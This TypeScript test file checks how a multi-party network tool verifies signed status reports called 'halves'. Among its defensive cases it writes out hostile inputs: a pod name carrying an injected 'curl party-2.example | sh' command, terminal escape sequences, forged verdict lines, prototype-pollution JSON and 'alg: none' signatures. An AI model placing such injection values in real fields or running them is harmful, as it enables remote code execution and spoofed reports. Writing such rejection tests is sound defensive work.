import "reflect-metadata";
import { once } from "node:events";
import { mkdir, mkdtemp, rm, truncate, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { canonicalJson } from "../../contract/manifest-digest.ts";
import { NetworkManifest } from "../../contract/network-manifest.ts";
import type { CoreView, ProbeReply } from "../../contract/probe.ts";
import { type HalfRules, halfObjectName } from "../../contract/validate-half.ts";
import { signCard } from "../../fleet/card-signature.ts";
import { signHalf } from "../../fleet/half-publishing.ts";
import { largestHalf } from "../../fleet/half-verification.ts";
import { type HalfReading, readHalf } from "../../fleet/halves.ts";
import { SeenHalves } from "../../fleet/seen-halves.ts";
import { CardFiles } from "../../stacks/card-files.ts";
import { modelNetwork } from "../runbooks/network/network-model.ts";
import { cardContent, digestOf, LocalKey, minuteMs } from "../support/cards.ts";
import { halfContent } from "../support/halves.ts";
import { rawManifest } from "../support/network.ts";

const manifest = NetworkManifest.parse(rawManifest());
const [key, stranger] = [new LocalKey(), new LocalKey()];
const seenAt = Date.parse(modelNetwork(4).startedAt);
let root = "";
let files: CardFiles;
beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), "quorate-halves-"));
  files = new CardFiles(root, "devnet");
});
afterEach(() => rm(root, { recursive: true, force: true }));

const question: HalfRules = { stage: "link", maxAgeMs: 15 * minuteMs };

/** Asks for party 2's half where this text lies in a folder in its place. */
async function read(text: string, change: Partial<HalfReading & HalfRules> = {}) {
  await writeFile(join(root, "party-2.half.jws"), text);
  return await readHalf(2, { ...question, folder: root, ...change }, { ...reading(), ...change });
}

const reading = (): HalfReading => ({
  files,
  trust: {
    contract: "card-trust/v1",
    network: manifest.network,
    parties: { 2: { fingerprint: key.fingerprint }, 3: { fingerprint: stranger.fingerprint } },
  },
  manifest,
  manifestDigest: digestOf("e"),
  endpoint: undefined,
  own: async () => undefined,
  now: new Date(seenAt + minuteMs),
});

test("a good half comes back as it was signed", async () => {
  const content = halfContent(2);
  const found = await read(`${await signHalf(content, key)}\n`);
  expect(found.problem).toBeNull();
  expect(found.half).toEqual({ ...content, signingKey: { id: key.id, fingerprint: key.fingerprint } });
});

test("what a cluster says in many words and lines is signed in few, in one", async () => {
  const content = halfContent(2);
  const reason = `\u001b[31mfirst\u001b[0m\n  second\n${"x".repeat(600)}`;
  content.sight.probe = { status: "unknown", reason };
  const { half, problem } = await read(await signHalf(content, key));
  expect(problem).toBeNull();
  const signed = half?.sight.probe.status === "unknown" ? half.sight.probe.reason : "";
  expect(signed).toMatch(/^\\u001b\[31mfirst\\u001b\[0m; second; x+…$/);
  expect(signed).toHaveLength(500);
});

describe("a half that was put back", () => {
  const at = (minute: number) => new Date(seenAt + minute * minuteMs).toISOString();
  const signed = async (minute: number, change: object = {}, by = key) =>
    await signHalf(halfContent(2, { startedAt: at(minute), issuedAt: at(minute), ...change }), by);
  const seen = () => new SeenHalves(join(root, ".quorate"), "devnet");
  const reads = async (text: string, change: Partial<HalfReading & HalfRules> = {}) =>
    (await read(text, { seen: seen(), now: new Date(seenAt + 10 * minuteMs), ...change })).problem;

  test("is refused by who has seen a newer one, with both times; the newer one goes on counting", async () => {
    const [older, newer] = [await signed(1), await signed(3)];
    expect([await reads(older), await reads(newer)]).toEqual([null, null]);
    expect(await reads(older)).toMatchObject({
      code: "HALF_OLDER",
      refused: true,
      found: expect.stringContaining(`signed at ${at(1)}`),
      expected: expect.stringContaining(at(3)),
      next: expect.stringContaining("ask party 2"),
    });
    expect([await reads(newer), (await reads(older))?.code]).toEqual([null, "HALF_OLDER"]);
  });

  test("an earlier run that is signed anew is not put back", async () => {
    expect(await reads(await signed(3))).toBeNull();
    expect(await reads(await signed(1, { issuedAt: at(4) }))).toBeNull();
  });

  test("another key or stage has a time of its own", async () => {
    const network = { seen: modelNetwork(4, [], { stage: "network" as const }) };
    expect(await reads(await signed(3))).toBeNull();
    expect(await reads(await signed(1, network), { stage: "network" })).toBeNull();
    const trust = { ...reading().trust, parties: { 2: { fingerprint: stranger.fingerprint } } } as HalfReading["trust"];
    expect(await reads(await signed(1, {}, stranger), { trust })).toBeNull();
  });

  test("one that was refused is not remembered: a clock that was wrong once costs nothing", async () => {
    expect(await reads(await signed(30))).toMatchObject({ code: "HALF_FROM_FUTURE" });
    expect(await reads(await signed(3, { manifestDigest: digestOf("f") }))).toMatchObject({
      code: "HALF_OTHER_MANIFEST",
    });
    expect(await reads(await signed(1))).toBeNull();
  });

  test("what is remembered and can not be read is nobody's half", async () => {
    expect(await reads(await signed(1))).toBeNull();
    await writeFile(seen().pathOf(2, "link"), "{ not JSON");
    await expect(reads(await signed(2))).rejects.toMatchObject({ problem: { code: "SEEN_HALF_INVALID" } });
  });
});

describe("a half that does not count, and why", () => {
  const signed = async (change: Parameters<typeof halfContent>[1] = {}) => await signHalf(halfContent(2, change), key);
  const sight = (change: object) => ({ sight: { ...halfContent(2).sight, ...change } });
  const pod = (change: object) =>
    sight({
      workload: {
        status: "seen",
        workload: {
          statefulSet: "kms-core",
          replicas: 1,
          pod: { name: "kms-core-2", phase: "Running", ready: true, reason: null, ...change },
        },
      },
    });
  const half = () => ({ ...halfContent(2), signingKey: { id: key.id, fingerprint: key.fingerprint } });
  const forgedText = (change: (text: string) => string, header: object = {}) =>
    key.forge({ ...key.header, typ: "quorate-half+jws", ...header }, change(canonicalJson(half())));
  const forged = (change: object) => forgedText(() => canonicalJson({ ...half(), ...change }));
  const reply = (change: (reply: ProbeReply) => object) => {
    const { probe } = halfContent(2).sight;
    if (probe.status === "unknown") throw new Error("the model's prober replies");
    return forged(sight({ probe: { ...probe, reply: { ...probe.reply, ...change(probe.reply) } } }));
  };
  const link = (change: object) =>
    reply(({ links }) => ({ links: links.map((one, index) => (index === 0 ? { ...one, ...change } : one)) }));
  const view = (change: (peers: Extract<CoreView, { status: "answered" }>["peers"]) => object[]) =>
    reply(({ view: said }) => ({ view: { ...said, peers: change("peers" in said ? said.peers : []) } }));
  const listening = ({ openAt, ...change }: { openAt?: object; until?: string }) => {
    const content = halfContent(2, { seen: modelNetwork(4, [], { stage: "network" }) });
    const listened = { ...content.sight.listened, ...change };
    return { ...content, sight: { ...content.sight, listened, ...(openAt && { openAt }) } };
  };
  const names = (count: number) => Object.fromEntries(Array.from({ length: count }, (_, index) => [index + 1, "x"]));

  test.each<[code: string, refused: boolean, text: () => Promise<string> | string, change?: object]>([
    ["HALF_MISSING", false, () => "", { folder: tmpdir() }],
    ["HALF_UNREADABLE", true, () => "not a half"],
    ["HALF_UNREADABLE", true, async () => (await signed()).slice(0, 200)],
    ["HALF_UNREADABLE", true, async () => (await signCard(cardContent(), key)).jws],
    ["HALF_TOO_LARGE", true, () => "a".repeat(largestHalf + 1)],
    ["HALF_FOREIGN_KEY", true, async () => await signHalf(halfContent(2), stranger)],
    [
      "HALF_TAMPERED",
      true,
      async () => (await signed()).replace(/\.(.)/, (_all, first) => `.${first === "e" ? "f" : "e"}`),
    ],
    ["HALF_INVALID", true, () => forged({ contract: "half/v2" })],
    ["HALF_INVALID", true, () => forged({ partyId: 3 })],
    ["HALF_INVALID", true, () => forged({ network: "other" })],
    ["HALF_INVALID", true, () => forged({ signingKey: { id: key.id, fingerprint: stranger.fingerprint } })],
    ["HALF_INVALID", true, () => forged({ sight: halfContent(3).sight })],
    ["HALF_INVALID", true, () => forged(sight({ notListening: "so no link to it can be down" }))],
    ["HALF_INVALID", true, () => forged(sight({ caUnreadable: { nobody: "no such party" } }))],
    ["HALF_INVALID", true, () => forged(pod({ name: "kms-core-2; curl party-2.example | sh" }))],
    ["HALF_INVALID", true, () => forged(pod({ reason: "waits\nverdict OK\n12 of 12 links up" }))],
    ["HALF_INVALID", true, () => forged(pod({ reason: "\u001b[2J" }))],
    ["HALF_INVALID", true, () => forged(pod({ reason: "x".repeat(501) }))],
    ["HALF_INVALID", true, () => forged({ ["x".repeat(10_000)]: 1 })],
    ["HALF_INVALID", true, () => forged({ issuedAt: "2026-11-20T18:55:01.000Z" })],
    ["HALF_INVALID", true, () => forged({ release: { version: "0.13\n12 of 12", imageDigest: digestOf("2") } })],
    ["HALF_INVALID", true, () => forged({ runId: "\u001b]0;all is well\u0007" })],
    ["HALF_INVALID", true, () => forged({ issuedAt: `2026-11-20T18:55:02.${"0".repeat(10_000)}Z` })],
    ["HALF_INVALID", true, () => forged({ sight: { ...halfContent(2).sight, coreHeldFor: [-1] } })],
    ["HALF_INVALID", true, () => forgedText((text) => text.replace("{", '{"__proto__":{"partyId":3},'))],
    ["HALF_INVALID", true, () => forgedText((text) => text.replace("{", '{"partyId":3,'))],
    ["HALF_INVALID", true, () => forgedText((text) => text.replace('"durationMs":812', '"durationMs":1e999'))],
    ["HALF_INVALID", true, () => link({ tcpMs: -1e308 })],
    ["HALF_INVALID", true, () => link({ tlsMs: 1e308 })],
    ["HALF_INVALID", true, () => link({ stage: "dns" })],
    ["HALF_INVALID", true, () => reply(({ links }) => ({ links: [...links, { ...links[0] }] }))],
    ["HALF_INVALID", true, () => reply(({ links }) => ({ links: [{ ...links[0], peerId: 2 }] }))],
    ["HALF_INVALID", true, () => view((peers) => [...peers, { ...peers[0], reachable: false }])],
    ["HALF_INVALID", true, () => view((peers) => [{ ...peers[0], latencyMs: -1 }])],
    ["HALF_INVALID", true, () => forged(listening({ openAt: { 1: "9999-12-31T23:59:59.000Z" } }))],
    ["HALF_INVALID", true, () => forged(listening({ until: "2026-11-20T18:00:00.000Z" }))],
    // Each entry of a list that fits nothing is a problem of its own: a contract that is held against them all takes minutes, and gigabytes.
    ["HALF_INVALID", true, () => reply(() => ({ links: Array.from({ length: 100_000 }, () => ({})) }))],
    ["HALF_INVALID", true, () => view(() => Array.from({ length: 100_000 }, () => ({})))],
    ["HALF_INVALID", true, () => forged(sight({ caUnreadable: names(25_000) }))],
    ["HALF_INVALID", true, () => forged(names(25_000))],
    ["HALF_INVALID", true, () => forgedText(() => `${"[".repeat(150_000)}${"]".repeat(150_000)}`)],
    ["HALF_UNREADABLE", true, () => forgedText((text) => text, { alg: "none" })],
    ["HALF_UNREADABLE", true, () => forgedText((text) => text, { alg: "HS256" })],
    ["HALF_UNREADABLE", true, () => forgedText((text) => text, { b64: false, crit: ["b64"] })],
    ["HALF_UNREADABLE", true, () => forgedText((text) => text, { ...names(10_000) })],
    ["HALF_FROM_FUTURE", true, async () => await signed({ issuedAt: new Date(seenAt + 7 * minuteMs).toISOString() })],
    ["HALF_OTHER_MANIFEST", true, async () => await signed({ manifestDigest: digestOf("f") })],
    ["HALF_OTHER_STAGE", false, async () => await signed({ seen: modelNetwork(4, [], { stage: "network" }) })],
    ["HALF_STALE", false, async () => await signed(), { now: new Date(seenAt + 16 * minuteMs) }],
  ])("%s (refused: %s) %#", async (code, refused, text, change = {}) => {
    const found = await read(await text(), change);
    expect(found.half).toBeNull();
    expect(found.problem).toMatchObject({ code, refused });
    expect(found.problem?.next).toBeTruthy();
    expect(found.problem?.found.length).toBeLessThan(2_000);
  });

  test("no bit of a half can be changed", async () => {
    const jws = await signed();
    await fc.assert(
      fc.asyncProperty(fc.nat(jws.length - 1), fc.constantFrom(..."AZaz09-_."), async (at, letter) => {
        fc.pre(jws[at] !== letter);
        const changed = jws.slice(0, at) + letter + jws.slice(at + 1);
        // The last character of a part carries bits that no byte takes: another spelling of the same bytes is no change.
        const bytes = (text: string) => text.split(".").map((part) => Buffer.from(part, "base64url").toString("hex"));
        fc.pre(bytes(changed).join() !== bytes(jws).join());
        expect((await read(changed)).half).toBeNull();
      }),
      { numRuns: 60 },
    );
  });

  test("a key that nobody trusted", async () => {
    expect((await read(await signed(), { trust: undefined })).problem).toMatchObject({
      code: "HALF_UNTRUSTED",
      refused: false,
    });
  });
});

test("an own party's half needs nobody's trust, and comes from its own vault", async () => {
  const jws = await signHalf(halfContent(2), key);
  const server = createServer((request, response) =>
    request.url === `/PUB-p2/${halfObjectName}` ? response.end(jws) : response.writeHead(404).end(),
  );
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  try {
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/PUB-p2/${halfObjectName}`;
    const own = async () => ({ fingerprint: key.fingerprint, url });
    const found = await readHalf(2, question, { ...reading(), trust: undefined, own });
    expect([found.problem, found.source, found.half?.partyId]).toEqual([null, url, 2]);
    const absent = await readHalf(2, question, {
      ...reading(),
      own: async () => ({ ...(await own()), url: `${url}x` }),
    });
    expect(absent.problem?.code).toBe("HALF_MISSING");
  } finally {
    server.close();
  }
});

describe("what is no half's fault", () => {
  test("a folder that is not there is an error of whoever named it", async () => {
    await expect(readHalf(2, { ...question, folder: join(root, "typo") }, reading())).rejects.toMatchObject({
      problem: { code: "FILE_UNUSABLE" },
    });
  });

  test("a file that can not be read could not be told, and is not refused", async () => {
    await mkdir(join(root, "party-2.half.jws"));
    const found = await readHalf(2, { ...question, folder: root }, reading());
    expect(found.problem).toMatchObject({ code: "FILE_UNUSABLE", refused: false });
  });

  test("a file that is larger than memory is not read", async () => {
    await writeFile(join(root, "party-2.half.jws"), "");
    await truncate(join(root, "party-2.half.jws"), 3 * 2 ** 30);
    const found = await readHalf(2, { ...question, folder: root }, reading());
    expect(found.problem).toMatchObject({ code: "FILE_UNUSABLE", found: "3221225472 bytes", refused: false });
  });

  test("S3's 403 is what it says where nothing was published: the world may not list a vault", async () => {
    const server = createServer((_request, response) => response.writeHead(403).end()).listen(0, "127.0.0.1");
    await once(server, "listening");
    const endpoint = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const raw = rawManifest();
    raw.parties[1].publicVault = { bucketName: "live-public-0a1b2c3d" };
    try {
      const found = await readHalf(2, question, { ...reading(), manifest: NetworkManifest.parse(raw), endpoint });
      expect(found.problem).toMatchObject({ code: "HALF_MISSING", refused: false });
      expect(found.problem?.found).toMatch(/^nothing that the world may read at https:\/\/live-public/);
    } finally {
      server.close();
    }
  });

  test("a vault that nobody here knows is said to be that", async () => {
    expect((await readHalf(2, { ...question, stage: "network" }, reading())).problem).toMatchObject({
      code: "HALF_MISSING",
      found: "nobody here knows where its public vault is",
      next: "ask party 2 to run: npx quorate validate --stage network, then: npx quorate reports publish",
    });
  });
});
